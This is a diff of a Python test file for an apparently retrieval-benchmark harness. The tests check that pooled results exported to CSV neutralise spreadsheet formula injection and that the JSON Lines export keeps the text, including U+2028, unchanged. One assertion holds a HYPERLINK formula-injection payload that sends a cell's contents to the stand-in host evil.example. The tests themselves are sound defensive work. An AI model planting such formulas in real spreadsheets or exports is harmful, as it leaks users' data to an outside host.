@@ -393,44 +393,50 @@ HOSTILE_DOCS = [
 ]
 
 
-def _hostile_folder(tmp_path: Path, harness) -> Path:
-    """A results folder over a small dataset whose documents a spreadsheet would evaluate."""
-    data = tmp_path / "hostile"
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory) -> Path:
+    """A results folder over a small dataset whose documents a spreadsheet would evaluate, and its
+    pool written by ``harness pool`` as pool.csv and pool.jsonl beside it."""
+    tmp = tmp_path_factory.mktemp("hostile")
+    data = tmp / "hostile"
     (data / "qrels").mkdir(parents=True)
     (data / "corpus.jsonl").write_text(
         "".join(json.dumps({"_id": i, "title": t, "text": x + " cells formulas"}) + "\n" for i, t, x in HOSTILE_DOCS)
     )
     (data / "queries.jsonl").write_text(json.dumps({"_id": "q1", "text": "cells formulas"}) + "\n")
     (data / "qrels" / "test.tsv").write_text("query-id\tcorpus-id\tscore\nq1\th4\t1\n")
-    (tmp_path / "h.yaml").write_text(
+    (tmp / "h.yaml").write_text(
         "dataset: {path: hostile, split: test}\nmetrics: [ndcg@10]\ndepth: 10\nlatency_queries: 0\n"
         "warmup_queries: 0\nretrievers:\n  bm25: {type: bm25}\n"
     )
-    r = harness("run", "--config", str(tmp_path / "h.yaml"), "--out", str(tmp_path / "hres"), "--no-progress")
-    assert r.returncode == 0, r.stderr[-3000:]
-    return tmp_path / "hres"
-
-
-def test_pool_csv_neutralises_formulas_and_jsonl_keeps_text_and_u2028(tmp_path, harness):
-    folder = _hostile_folder(tmp_path, harness)
+    assert main(["run", "--config", str(tmp / "h.yaml"), "--out", str(tmp / "hres"), "--no-progress"]) == 0
     for suffix in ("csv", "jsonl"):
-        r = harness("pool", str(folder), "--out", str(tmp_path / f"pool.{suffix}"))
-        assert r.returncode == 0, r.stderr
-    # CSV: no cell a spreadsheet would evaluate
-    cells = [c for row in csv.reader(io.StringIO((tmp_path / "pool.csv").read_text(), newline="")) for c in row]
-    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert main(["pool", str(tmp / "hres"), "--out", str(tmp / f"pool.{suffix}")]) == 0
+    return tmp
+
+
+#: the dataset's own title and text of every pooled document (h4 is judged: not pooled)
+HOSTILE_TEXT = {i: (t, x + " cells formulas") for i, t, x in HOSTILE_DOCS if i != "h4"}
+
+
+def test_pool_csv_neutralises_formulas_and_reads_back_the_text(hostile, harness):
+    cells = [c for row in csv.reader(io.StringIO((hostile / "pool.csv").read_text(), newline="")) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]  # nothing a spreadsheet evaluates
     assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells and "''quoted already cells formulas" in cells
-    # JSON Lines: the text as it is, U+2028 and U+2029 inside strings, one object per line
-    lines = (tmp_path / "pool.jsonl").read_text().split("\n")
-    assert any('"=HYPERLINK(' in x for x in lines) and any("\u2028" in x for x in lines)
-    # both read back (the server reads them; merge reads them) to the dataset's own text
-    expect = {i: (t, x + " cells formulas") for i, t, x in HOSTILE_DOCS if i != "h4"}
-    for suffix in ("csv", "jsonl"):
-        got = {r.doc_id: (r.title, r.text) for r in read_pool(tmp_path / f"pool.{suffix}")}
-        assert got == expect, suffix
-        r = harness("judge", "merge", str(tmp_path / f"pool.{suffix}"), "--qrels", str(folder / "qrels.tsv"),
-                    "--out", str(tmp_path / f"q-{suffix}.txt"))  # fmt: skip
-        assert r.returncode == 0, r.stderr
+    # read back (the server and merge read it) as the dataset's own text
+    assert {r.doc_id: (r.title, r.text) for r in read_pool(hostile / "pool.csv")} == HOSTILE_TEXT
+    r = harness("judge", "merge", str(hostile / "pool.csv"), "--qrels", str(hostile / "hres" / "qrels.tsv"),
+                "--out", str(hostile / "q-csv.txt"))  # fmt: skip
+    assert r.returncode == 0, r.stderr
+
+
+def test_pool_jsonl_keeps_the_text_and_reads_u2028_back(hostile, harness):
+    lines = (hostile / "pool.jsonl").read_text().split("\n")  # JSON's own line ends only
+    assert any('"=HYPERLINK(' in x for x in lines) and any("\u2028" in x for x in lines)  # text unchanged
+    assert {r.doc_id: (r.title, r.text) for r in read_pool(hostile / "pool.jsonl")} == HOSTILE_TEXT
+    r = harness("judge", "merge", str(hostile / "pool.jsonl"), "--qrels", str(hostile / "hres" / "qrels.tsv"),
+                "--out", str(hostile / "q-jsonl.txt"))  # fmt: skip
+    assert r.returncode == 0, r.stderr
 
 
 @pytest.mark.parametrize(
